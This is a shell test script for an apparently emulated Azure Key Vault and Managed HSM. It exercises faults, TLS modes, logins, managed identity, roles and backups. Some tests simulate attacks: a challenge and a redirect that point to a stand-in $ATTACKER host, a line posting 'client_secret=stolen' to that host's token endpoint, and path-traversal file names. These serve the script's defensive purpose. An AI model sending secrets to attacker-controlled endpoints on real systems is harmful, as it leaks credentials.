#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The emulator does what a test asks of it: each fault, its limits, outages, logins, identities, roles.
. "${top_srcdir:?}/tests/lib/harness.sh"
. "$top_srcdir/tests/azure/azure.sh"
needs openssl python3

hash=ltYuKr0-Qt5fUDMPuO_ExVmYNSeAd7IemqCzPB3wehw
sign="{\"alg\":\"PS256\",\"value\":\"$hash\"}"

# header NAME TEXT: belongs to an `ask` before
header() {
    grep -i "^$1:" "$tmp/.headers" | grep -q -F -e "$2" || fail "no header $1 with $2: $(cat "$tmp/.headers")"
}

# value FILTER TEXT: what jq finds in the last output
value() {
    [ "$(jq -r "$1" <"$out")" = "$2" ] || fail "$1 is $(jq -r "$1" <"$out"), not $2"
}

# hangs_up: the command fails without an answer, and no sanitizer has spoken
hangs_up() {
    try "$@"
    [ "$status" = 7 ] || fail "status $status, not 7: $*"
}

# plain CURL-OPTION...: without a token
plain() {
    curl -sS --noproxy '*' --cacert "$emulated/ca.pem" -D "$tmp/.headers" -o "$tmp/.body" -w '%{http_code}' "$@" >"$tmp/.status" && cat "$tmp/.body"
}

verify() { # SIGNATURE: with the key's own public part
    ask POST /keys/k1/verify "{\"alg\":\"PS256\",\"digest\":\"$hash\",\"value\":\"$1\"}"
}

# ---- a vault ----

start_emulator vault
vault=$emulated
setup ask POST /keys/k1/create '{"kty":"RSA"}'
setup ask POST /keys/e1/create '{"kty":"EC-HSM","crv":"P-256"}'

# without a token
accepts plain "$VAULT/keys?api-version=7.4"
status_is 401
header WWW-Authenticate "authorization=\"$AUTHORITY/$TENANT\", resource=\"$RESOURCE\""
says AKV10000
accepts plain -H 'Authorization: Bearer nonsense' "$VAULT/keys?api-version=7.4"
status_is 401
others_refuse ask GET '/keys?api-version='
accepts ask GET '/keys?api%2Dversion=7.4'

# errors instead of an answer; "after" lets requests pass first, and the count ends it
for row in 403-access:403:AccessDenied 403-policy:403:ForbiddenByPolicy 403-rbac:403:ForbiddenByRbac 403-firewall:403:ForbiddenByFirewall \
    403-disabled:403:KeyDisabled 403-expired:403:KeyExpired 429:429:Throttled 400:400:BadParameter 404:404:KeyNotFound 408:408:Timeout 409:409:ObjectIsBeingDeleted \
    500:500:Error 502:502:Bad 503:503:Service 504:504:Timeout; do
    fault=${row%%:*} rest=${row#*:}
    setup emulator fault "$fault" 1 after=1
    accepts ask POST /keys/k1/sign "$sign"
    others_refuse ask POST /keys/k1/sign "$sign"
    status_is "${rest%:*}"
    says "${rest#*:}"
    if grep -qi '^retry-after' "$tmp/.headers"; then fail "Retry-After"; fi
    accepts ask POST /keys/k1/sign "$sign"
done
setup emulator fault 429-retry-after 2 7
others_refuse ask GET /keys/k1
status_is 429
header Retry-After 7
accepts emulator stats
value .throttled 2
accepts emulator clear
accepts ask GET /keys/k1

# challenges
setup emulator fault expired-token
others_refuse ask GET /keys/k1
status_is 401
header WWW-Authenticate invalid_token
setup emulator fault claims
others_refuse ask GET /keys/k1
header WWW-Authenticate 'error="insufficient_claims", claims="'
setup emulator fault foreign-resource 1 https://vault.example.net
accepts plain "$VAULT/keys?api-version=7.4"
header WWW-Authenticate 'resource="https://vault.example.net"'
setup emulator fault attacker-authority
accepts plain "$VAULT/keys?api-version=7.4"
header WWW-Authenticate "authorization=\"$ATTACKER/$TENANT\""
setup emulator fault other-tenant
accepts plain "$VAULT/keys?api-version=7.4"
header WWW-Authenticate "$AUTHORITY/99999999-9999"
setup emulator fault no-challenge
others_refuse ask GET /keys/k1
status_is 401
if grep -qi '^www-authenticate' "$tmp/.headers"; then fail "a challenge"; fi
setup emulator revoke
others_refuse ask GET /keys/k1
status_is 401
setup new_token
accepts ask GET /keys/k1

# what an attacker is sent is seen
accepts emulator attacker-log
value length 0
setup plain -d 'client_secret=stolen' "$ATTACKER/$TENANT/oauth2/v2.0/token"
accepts emulator attacker-log
value '.[0].body' client_secret=stolen

# bodies
setup emulator fault empty-body
accepts ask POST /keys/k1/sign "$sign"
[ ! -s "$out" ] || fail "a body"
setup emulator fault html-body 1 503
others_refuse ask POST /keys/k1/sign "$sign"
status_is 503
says '<html>'
setup emulator fault not-json
accepts ask POST /keys/k1/sign "$sign"
others_refuse jq . "$tmp/.body"
setup emulator fault cut-body
hangs_up ask POST /keys/k1/sign "$sign"
setup emulator fault slow-body 1 20
hangs_up ask POST /keys/k1/sign "$sign" --max-time 1
setup emulator fault slow-body 1 1
accepts ask POST /keys/k1/sign "$sign"
setup emulator fault endless-body
hangs_up ask POST /keys/k1/sign "$sign" --max-filesize 1000000
says 'Maximum file size exceeded'
setup emulator fault stall 1 60000
hangs_up ask POST /keys/k1/sign "$sign" --max-time 1
setup emulator fault reset
hangs_up ask POST /keys/k1/sign "$sign"
setup emulator fault reset-headers
hangs_up ask POST /keys/k1/sign "$sign"
setup emulator fault redirect-http
accepts ask POST /keys/k1/sign "$sign"
status_is 302
header Location "http://${VAULT#https://}/keys/k1/sign"
setup emulator fault redirect-host
accepts ask POST /keys/k1/sign "$sign"
header Location "$ATTACKER/keys/k1/sign"

# signatures: a good one, and others
accepts ask POST /keys/k1/sign "$sign"
kid=$(jq -r .kid <"$out")
accepts verify "$(jq -r .value <"$out")"
value .value true
setup emulator fault wrong-kid
accepts ask GET /keys/k1
value .key.kid "$kid"
accepts ask POST /keys/k1/sign "$sign"
[ "$(jq -r .kid <"$out")" != "$kid" ] || fail "the right kid"
setup emulator fault signature-other
accepts ask POST /keys/k1/sign "$sign"
value '.value | length' 342
accepts verify "$(jq -r .value <"$out")"
value .value false
setup emulator fault signature-short
accepts ask POST /keys/k1/sign "$sign"
value '.value | length' 171
setup emulator fault signature-long
accepts ask POST /keys/k1/sign "$sign"
value '.value | length' 343
setup emulator fault signature-twice
accepts ask POST /keys/e1/sign "{\"alg\":\"ES256\",\"value\":\"$hash\"}"
python3 -c 'import base64,json,sys; s=base64.urlsafe_b64decode(json.load(sys.stdin)["value"]+"=="); sys.exit(len(s)!=64 or s[:32]!=s[32:])' <"$out" || fail "not r||r"

# a fault of one operation leaves the others alone
setup emulator fault 500 '*' only=sign
accepts ask GET /keys/k1
others_refuse ask POST /keys/k1/sign "$sign"
accepts emulator faults
value '.[0].left' -1
setup emulator clear 500
accepts ask POST /keys/k1/sign "$sign"
others_refuse emulator fault no-such-fault
others_refuse emulator no-such-command

# attributes
setup ask POST /keys/old/create '{"kty":"RSA","attributes":{"exp":1000000000}}'
others_refuse ask POST /keys/old/sign "$sign"
status_is 403
says KeyExpired
accepts ask POST /keys/k1/encrypt '{"alg":"RSA-OAEP","value":"YWJj"}'
accepts ask POST /keys/k1/decrypt "{\"alg\":\"RSA-OAEP\",\"value\":\"$(jq -r .value <"$out")\"}"
value .value YWJj
others_refuse ask POST /keys/old/encrypt '{"alg":"RSA-OAEP","value":"YWJj"}'
others_refuse ask POST /keys/old/decrypt "{\"alg\":\"RSA-OAEP\",\"value\":\"$hash\"}"
status_is 400
says 'Unable to decrypt specified value with this key.'
setup ask POST /keys/future/create '{"kty":"RSA","attributes":{"nbf":4000000000}}'
others_refuse ask POST /keys/future/sign "$sign"
says KeyNotYetValid
setup ask POST /keys/opener/create '{"kty":"RSA","key_ops":["decrypt"]}'
others_refuse ask POST /keys/opener/sign "$sign"
says KeyOperationForbidden
setup ask POST /keys/off/create '{"kty":"RSA","attributes":{"enabled":false}}'
others_refuse ask POST /keys/off/sign "$sign"
says KeyDisabled
others_refuse ask POST /keys/k1/sign "{\"alg\":\"PS384\",\"value\":\"$hash\"}"
status_is 400

# a name in soft delete is taken; purge protection
setup emulator set delay 400
setup ask DELETE /keys/off
others_refuse ask GET /deletedkeys/off
others_refuse ask POST /keys/off/create '{"kty":"RSA"}'
status_is 409
says ObjectIsBeingDeleted
others_refuse ask DELETE /deletedkeys/off
status_is 409
sleep 0.6
others_refuse ask POST /keys/off/create '{"kty":"RSA"}'
says ObjectIsDeletedButRecoverable
setup emulator set purge-protection on
others_refuse ask DELETE /deletedkeys/off
status_is 403
accepts ask GET /keys/k1
value .attributes.recoveryLevel Recoverable
setup emulator set purge-protection off
setup emulator set delay 50

# rotated behind somebody's back: the name signs with another key, the version with its own
setup emulator rotate k1
accepts ask POST /keys/k1/sign "$sign"
[ "$(jq -r .kid <"$out")" != "$kid" ] || fail "the old version"
accepts ask POST "/keys/k1/${kid##*/}/sign" "$sign"
value .kid "$kid"

# latency, and how many at once
setup emulator latency 200 200
begun=$(date +%s%N)
accepts ask GET /keys/k1
[ $((($(date +%s%N) - begun) / 1000000)) -ge 200 ] || fail "no latency"
setup emulator stats reset
for i in 1 2 3 4; do
    ask GET /keys/k1 >/dev/null &
    eval "pid$i=\$!"
done
wait "$pid1" "$pid2" "$pid3" "$pid4"
setup emulator latency 0 0
accepts emulator stats
value '.most_running > 1' true
value .operations.get 4
value .requests 4
value .handshakes 4

# Key Vault's bucket: 8 of 2048 bits count as one of 4096
setup ask POST /keys/big/create '{"kty":"RSA","key_size":4096}'
setup emulator capacity on 2000 10 10 20
accepts ask POST /keys/big/sign "$sign"
accepts ask POST /keys/k1/sign "$sign"
accepts ask POST /keys/k1/sign "$sign"
others_refuse ask POST /keys/k1/sign "$sign"
status_is 429
says VaultRequestTypeLimitReached
others_refuse ask POST /keys/e1/sign "{\"alg\":\"ES256\",\"value\":\"$hash\"}" # it is one sum over all kinds
setup emulator capacity off
accepts ask POST /keys/k1/sign "$sign"

# the log
setup ask GET /keys/k1 '' -H 'x-ms-client-request-id: 5f0e7c9b-0000-4000-8000-000000000001' -A signengine/9.9
header x-ms-client-request-id 5f0e7c9b-0000-4000-8000-000000000001
accepts emulator log
value '.[-1] | .method + " " + .path + " " + (.status | tostring) + " " + .id + " " + .agent' \
    'GET /keys/k1 200 5f0e7c9b-0000-4000-8000-000000000001 signengine/9.9'

# an outage: refused, then there again with its keys
setup emulator pause 800
hangs_up ask GET /keys/k1 '' --retry 0
sleep 1.2
accepts ask POST "/keys/k1/${kid##*/}/sign" "$sign"
value .kid "$kid"

# ---- TLS ----

for mode in expired wrong-host unknown-ca close; do
    setup emulator tls "$mode"
    hangs_up ask GET /keys/k1
done
setup emulator tls unknown-ca
accepts ask GET /keys/k1 '' --cacert "$emulated/other-ca.pem"
setup emulator tls old
hangs_up ask GET /keys/k1 '' --tlsv1.2
others_refuse openssl s_client -connect "localhost:${VAULT##*:}" -tls1_2
accepts openssl s_client -connect "localhost:${VAULT##*:}" -tls1_1 -cipher DEFAULT:@SECLEVEL=0
setup emulator tls tls12
hangs_up ask GET /keys/k1 '' --tlsv1.3
accepts ask GET /keys/k1
setup emulator tls tls13
hangs_up ask GET /keys/k1 '' --tls-max 1.2
accepts ask GET /keys/k1
setup emulator tls normal
accepts ask GET /keys/k1
setup emulator tls expired authority
others_refuse new_token
setup emulator tls normal authority
accepts new_token

# ---- logins ----

for row in token-invalid-client:invalid_client token-expired-secret:7000222 token-unauthorized-client:700016 token-unavailable:temporarily_unavailable \
    token-500:server_error token-429:temporarily_unavailable token-502-html:'<html>' token-html:'<html>'; do
    setup emulator fault "${row%%:*}"
    others_refuse new_token
    grep -q -F -e "${row#*:}" "$emulated/token.json" || fail "the token endpoint said $(cat "$emulated/token.json")"
done
for fault in token-not-json token-empty token-missing token-reset; do
    setup emulator fault "$fault"
    others_refuse new_token
done
setup emulator fault token-huge-lifetime
accepts new_token
value .expires_in 9223372036854775807
setup emulator fault token-lifetime 1 1
accepts new_token
value .expires_in 1
accepts ask GET /keys/k1
sleep 1.1
others_refuse ask GET /keys/k1
status_is 401
setup emulator set token-refresh 100
accepts new_token
value .refresh_in 100
setup emulator set token-refresh 0
accepts new_token --data-urlencode 'claims={}'
accepts emulator stats
value .claims 1
setup emulator secret "$CLIENT" changed
others_refuse new_token
says_not access_token
setup emulator secret "$CLIENT" "$SECRET" "$PRINCIPAL"
setup new_token
accepts ask GET /keys/k1
rm -f "$emulated/token"
RESOURCE=https://other.example new_token >/dev/null
others_refuse ask GET /keys/k1
status_is 401
setup new_token

# a client assertion, good once and in each way bad
setup openssl req -x509 -newkey rsa:2048 -nodes -keyout client.key -out client.crt -subj /CN=client -days 9 -config /dev/null
setup openssl genrsa -out stranger.key 2048
setup emulator register-certificate "$CLIENT" "$tmp/client.crt"
cat >assertion.sh <<'SH'
b64() { openssl base64 -A | tr '+/' '-_' | tr -d '='; }
# assertion ALG THUMBPRINT-NAME KEY AUD ISS JTI EXP
digest=sha1
[ "$2" = 'x5t#S256' ] && digest=sha256
thumb=$(openssl x509 -in client.crt -outform der | openssl dgst -$digest -binary | b64)
now=$(date +%s)
text=$(printf '{"alg":"%s","typ":"JWT","%s":"%s"}' "$1" "$2" "$thumb" | b64).$(printf '{"aud":"%s","iss":"%s","sub":"%s","jti":"%s","nbf":%d,"exp":%d}' "$4" "$5" "$5" "$6" "$now" $((now + $7)) | b64)
pss=''
[ "$1" = PS256 ] && pss='-sigopt rsa_padding_mode:pss -sigopt rsa_pss_saltlen:digest'
# shellcheck disable=SC2086
printf '%s.%s' "$text" "$(printf %s "$text" | openssl dgst -sha256 -sign "$3" $pss -binary | b64)"
SH
by_assertion() {
    curl -sS --noproxy '*' --cacert "$emulated/ca.pem" "$AUTHORITY/$TENANT/oauth2/v2.0/token" -d grant_type=client_credentials -d "client_id=$CLIENT" \
        --data-urlencode "scope=$RESOURCE/.default" -d client_assertion_type=urn:ietf:params:oauth:client-assertion-type:jwt-bearer -d "client_assertion=$1"
}
aud=$AUTHORITY/$TENANT/oauth2/v2.0/token
good=$(sh assertion.sh PS256 'x5t#S256' client.key "$aud" "$CLIENT" one 600)
accepts by_assertion "$good"
says access_token
accepts by_assertion "$good"
says 'jti'
accepts by_assertion "$(sh assertion.sh RS256 x5t client.key "$aud" "$CLIENT" two 600)"
says access_token
for row in "PS256 x5t#S256 stranger.key $aud $CLIENT three 600:700027" "RS256 x5t#S256 stranger.key $aud $CLIENT four 600:700027" \
    "PS256 x5t#S256 client.key $aud/x $CLIENT five 600:700023" "PS256 x5t#S256 client.key $aud 22222222-2222-4222-8222-222222222223 six 600:700021" \
    "PS256 x5t#S256 client.key $aud $CLIENT seven -5:700024" "PS256 nothing client.key $aud $CLIENT eight 600:70021" "none x5t#S256 client.key $aud $CLIENT nine 600:700027"; do
    # shellcheck disable=SC2086
    accepts by_assertion "$(sh assertion.sh ${row%:*})"
    says "AADSTS${row##*:}"
done
echo header.one.signature >federated
setup emulator federated "$CLIENT" "$tmp/federated"
accepts by_assertion header.one.signature
says access_token
echo header.two.signature >federated
setup emulator federated "$CLIENT" "$tmp/federated"
accepts by_assertion header.one.signature
says_not access_token
accepts by_assertion header.two.signature
says access_token

# ---- managed identity ----

imds="$IDENTITY/metadata/identity/oauth2/token?api-version=2018-02-01&resource=$RESOURCE"
accepts plain -H 'Metadata: true' "$imds"
value '.expires_in | type' string
jq -er .access_token <"$out" >"$emulated/token"
accepts ask GET /keys/k1
accepts plain "$imds"
status_is 400
accepts plain -H 'Metadata: true' "$imds&client_id=66666666-6666-4666-8666-666666666666"
status_is 400
accepts plain -H 'Metadata: true' "$imds&client_id=$IDENTITY_CLIENT"
status_is 200
for code in 404 410 429 500; do
    setup emulator fault "identity-$code"
    accepts plain -H 'Metadata: true' "$imds"
    status_is "$code"
done
accepts plain -H "X-IDENTITY-HEADER: $IDENTITY_SECRET" "$IDENTITY/msi/token?api-version=2019-08-01&resource=$RESOURCE"
value '.expires_on | test("^[0-9]+$")' true
value 'has("expires_in")' false
accepts plain -H "X-IDENTITY-HEADER: wrong" "$IDENTITY/msi/token?api-version=2019-08-01&resource=$RESOURCE"
status_is 401
accepts plain -H "secret: $IDENTITY_SECRET" "$IDENTITY/msi/token?api-version=2017-09-01&resource=$RESOURCE"
value '.expires_on | test("/20[0-9][0-9] ")' true
accepts plain -d "resource=$RESOURCE" -H 'Metadata: true' "$IDENTITY/cloudshell"
says access_token
arc="$IDENTITY/arc/token?api-version=2019-11-01&resource=$RESOURCE"
arc_file() {
    plain -H 'Metadata: true' "$arc" >/dev/null
    sed -n 's/^WWW-Authenticate: Basic realm=\(.*\)\r$/\1/p' "$tmp/.headers"
}
file=$(arc_file)
accepts plain -H 'Metadata: true' -H "Authorization: Basic $(cat "$file")" "$arc"
says access_token
accepts plain -H 'Metadata: true' -H "Authorization: Basic wrong" "$arc"
status_is 401
for row in arc-outside:/outside.key arc-dots:/../ arc-suffix:.txt; do
    setup emulator fault "${row%:*}"
    accepts arc_file
    says "${row#*:}"
done
setup emulator fault arc-big
accepts arc_file
[ "$(wc -c <"$(cat "$out")")" -gt 4096 ] || fail "a small file"
setup emulator fault arc-missing
accepts arc_file
[ ! -e "$(cat "$out")" ] || fail "a file"

# ---- the proxy ----

by_proxy() {
    curl -sS --noproxy '' --proxy "$PROXY" --cacert "$emulated/ca.pem" "$@"
}
accepts by_proxy 'https://name.vault.azure.net/keys?api-version=7.4' -D "$tmp/.headers"
says AKV10000
header WWW-Authenticate 'resource="https://vault.azure.net"'
accepts by_proxy "https://login.microsoftonline.com/$TENANT/v2.0/.well-known/openid-configuration"
says "https://login.microsoftonline.com/$TENANT/oauth2/v2.0/token"
others_refuse by_proxy https://www.example.com/
accepts emulator proxy-log
value 'map(.host) | join(" ")' 'name.vault.azure.net:443 login.microsoftonline.com:443 www.example.com:443'
setup emulator proxy-password user secret
others_refuse by_proxy 'https://name.vault.azure.net/keys?api-version=7.4'
accepts by_proxy 'https://name.vault.azure.net/keys?api-version=7.4' --proxy-user user:secret

# idle connections
setup emulator set idle 100
accepts python3 - "$emulated/ca.pem" "${VAULT##*:}" <<'PY'
import http.client, ssl, sys, time
c = http.client.HTTPSConnection('localhost', int(sys.argv[2]), context=ssl.create_default_context(cafile=sys.argv[1]))
c.request('GET', '/keys')
assert c.getresponse().read()
time.sleep(0.5)
try:
    c.request('GET', '/keys')
    c.getresponse()
    sys.exit('still open')
except (http.client.RemoteDisconnected, ConnectionError, ssl.SSLError):
    pass
PY
setup emulator set idle 0

# ---- a Managed HSM ----

start_emulator hsm "$tmp/hsm"
setup emulator set delay 100
setup ask POST /keys/k1/create '{"kty":"RSA"}'
setup ask POST /keys/k2/create '{"kty":"RSA"}'
accepts ask GET /keys/k1 '' -H 'x-ms-client-request-id: 5f0e7c9b-0000-4000-8000-000000000001'
value .key.kty RSA-HSM
if grep -qi '^x-ms-client-request-id' "$tmp/.headers"; then fail "an echo"; fi
header x-ms-server-latency ''
accepts plain "$VAULT/keys?api-version=7.4"
status_is 401
[ ! -s "$tmp/.body" ] || fail "a body"
others_refuse ask GET /certificates
others_refuse ask POST /rng '{"count":0}'
says 'Activity ID: '

# roles: a second client signs as soon as it may, with that key
friend=77777777-7777-4777-8777-777777777777 oid=88888888-8888-4888-8888-888888888888
crypto_user=21dbd100-6940-42c2-9190-5d6cb909625b assignment=aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa
setup emulator secret "$friend" friends "$oid"
setup emulator set roles on
setup emulator set role-delay 600
cp "$emulated/token" admins.token
become() {
    if [ "$1" = admin ]; then
        cp admins.token "$emulated/token"
    else
        CLIENT=$friend SECRET=friends new_token >/dev/null
    fi
}
setup become friend
others_refuse ask POST /keys/k1/sign "$sign"
status_is 403
others_refuse ask PUT "/keys/k1/providers/Microsoft.Authorization/roleAssignments/$assignment" '{"properties":{}}'
status_is 403
setup become admin
roles=/keys/k1/providers/Microsoft.Authorization/roleAssignments
accepts ask PUT "$roles/$assignment" \
    "{\"properties\":{\"roleDefinitionId\":\"Microsoft.KeyVault/providers/Microsoft.Authorization/roleDefinitions/$crypto_user\",\"principalId\":\"$oid\"}}"
status_is 201
value .properties.scope /keys/k1
accepts ask GET "/providers/Microsoft.Authorization/roleAssignments?\$filter=principalId%20eq%20'$oid'"
value '.value | length' 1
accepts ask GET '/providers/Microsoft.Authorization/roleAssignments?$filter=atScope()'
value '.value | length' 3
setup become friend
others_refuse ask POST /keys/k1/sign "$sign"
sleep 0.7
accepts ask POST /keys/k1/sign "$sign"
value .alg PS256
others_refuse ask POST /keys/k2/sign "$sign"
setup become admin
accepts ask DELETE "$roles/$assignment"
setup become friend
others_refuse ask POST /keys/k1/sign "$sign"
setup emulator set role-delay 0
setup emulator grant "$oid" 33413926-3206-4cdd-b39a-83574fe37a17 /keys # service encryption: reads, wraps, cannot sign
accepts ask GET /keys/k1
others_refuse ask POST /keys/k1/sign "$sign"
setup emulator set roles off
setup become admin

# all of it into storage, and back
accepts ask POST /backup '{"storageResourceUri":"https://storage.example/c","token":"sv=1&se=2099"}'
status_is 202
header Azure-AsyncOperation "$VAULT/backup/"
job=$(jq -r .jobId <"$out")
value .status InProgress
sleep 0.2
accepts ask GET "/backup/$job/pending"
value .status Succeeded
folder=$(jq -r .azureStorageBlobContainerUri <"$out")
setup ask DELETE /keys/k1
setup ask DELETE /deletedkeys/k1
others_refuse ask GET /keys/k1
accepts ask PUT /keys/k1/restore "{\"sasTokenParameters\":{\"storageResourceUri\":\"https://storage.example/c\",\"token\":\"se=1\"},\"folder\":\"${folder##*/}\"}"
job=$(jq -r .jobId <"$out")
others_refuse ask DELETE /keys/k2 # meanwhile
status_is 409
sleep 0.2
accepts ask GET "/restore/$job/pending"
value .statusDetails 'Number of successful key versions restored: 1, Number of key versions could not overwrite: 0'
accepts ask POST /keys/k1/sign "$sign"
accepts ask POST /backup '{"storageResourceUri":"https://storage.example/c","token":"sv=1"}'
others_refuse ask GET "/backup/$(jq -r .jobId <"$out")/pending"
status_is 400
says 'does not contain the expiry field'

# throttled by the second
setup emulator capacity on 1 0.1
allowed=0
for i in $(seq 120); do
    ask POST /keys/k1/sign "$sign" >"$out" 2>"$err" && allowed=$((allowed + 1))
    [ "$(cat "$tmp/.status")" != 429 ] || break
done
cases=$((cases + 1)) bad=''
[ "$(cat "$tmp/.status")" = 429 ] || fail "$allowed signatures of a Managed HSM that makes 90 a second"
setup emulator capacity off

# a blob goes to another of the same domain, and to no other
setup ask POST /keys/k1/backup
blob=$(cat "$out")
start_emulator hsm "$tmp/twin"
accepts ask POST /keys/restore "$blob"
start_emulator hsm "$tmp/foreign" --domain other
others_refuse ask POST /keys/restore "$blob"
says MalformedBackupBlob
use_emulator "$vault"
others_refuse ask POST /keys/restore "$blob"
says 'Malformed backup blob'
accepts emulator quit
hangs_up ask GET /keys/k1
